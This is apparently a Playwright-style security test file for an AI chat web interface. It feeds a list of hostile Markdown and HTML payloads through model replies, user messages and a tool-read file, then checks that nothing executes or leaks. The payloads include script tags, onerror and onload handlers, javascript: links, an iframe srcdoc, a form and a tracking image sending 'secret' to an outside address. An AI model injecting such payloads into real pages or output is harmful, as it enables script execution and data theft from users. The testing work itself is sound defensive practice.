/** Text from models, people, files and tools is shown as text: nothing in it runs, loads or poses as something else. */
import assert from "node:assert/strict";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { noChromium } from "../fakes/browser-stage.ts";
import { openUi, tell } from "./stage.ts";

const limit = { timeout: 120_000, skip: noChromium };

const tricks = [
  '<img src=x onerror="document.title=`owned`">',
  "<script>document.title='owned'</script>",
  "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\" attributeName=x dur=1s></svg>",
  "[click](javascript:document.title='owned')",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![remote](http://192.0.2.1/pixel.png?leak=secret)",
  '<a href="javascript:document.title=1" onclick="document.title=`owned`">link</a>',
  "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
  '<form action="http://192.0.2.1/"><input name="x"><button>Allow once</button></form>',
  "<style>*{display:none}</style><link rel=stylesheet href=http://192.0.2.1/x.css>",
  "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='owned'\">",
  '<div style="position:fixed;inset:0" id="location">overlay</div>',
  "```html\n<script>document.title='owned'</script>\n```",
];

/** What must not be in the conversation, counted in the page itself. */
const inspection = `(() => {
  const all = (selector) => [...document.querySelectorAll("[aria-label=Conversation] " + selector)];
  const isForeign = (name) => name.startsWith("on") || name === "style";
  return {
    active: all(":is(script, iframe, form, object, embed, style, link, meta)").length,
    handlers: all("*").filter((each) => each.getAttributeNames().some(isForeign)).length,
    links: all("a[href]").map((each) => each.getAttribute("href")).filter((href) => !/^(?:#|https?:|mailto:)/.test(href)),
    images: all("img").map((each) => each.getAttribute("src")).filter((src) => !/^(?:blob|data):/.test(src)),
  };
})()`;

test("hostile Markdown from the model, from people and from tools", limit, async (t) => {
  const { page, world, complaints, strays } = await openUi(t, {
    world: {
      respond(request) {
        const messages = request.body["messages"] as { role: string }[];
        if (messages.at(-1)?.role === "tool") return { type: "answer", text: `${tricks.join("\n\n")}\n\nthe end` };
        return { type: "answer", toolCalls: [{ name: "read", arguments: { path: "evil.txt" } }] };
      },
    },
  });
  await writeFile(join(world.dataDir, "workspace", "evil.txt"), tricks.join("\n"));
  await tell(page, `${tricks.join("\n")}\nfrom me`);
  await page.getByText("the end").waitFor();
  await page.locator("summary", { hasText: "read" }).first().click();
  for (const link of await page.getByRole("link", { name: "click" }).all()) await link.click({ trial: true });
  await page.reload();
  await page.getByText("the end").waitFor();

  assert.notEqual(await page.title(), "owned");
  const found = await page.evaluate(inspection);
  assert.deepEqual(found, { active: 0, handlers: 0, links: [], images: [] });
  assert.deepEqual([complaints, strays], [[], []]);
});

test("an address or a token in a link is not taken", limit, async (t) => {
  const { page, app, strays } = await openUi(t);
  for (const hash of ["#gatewayUrl=ws://192.0.2.1/ws&token=abc", "#token=abc", "#url=http://192.0.2.1"]) {
    await page.goto(`${app.url}/${hash}`);
    await page.reload();
    await page.getByRole("textbox", { name: "Message" }).waitFor();
  }
  const response = await page.request.get(`${app.url}/?token=abc`);
  assert.equal(response.status(), 400);
  assert.deepEqual(strays, []);
});
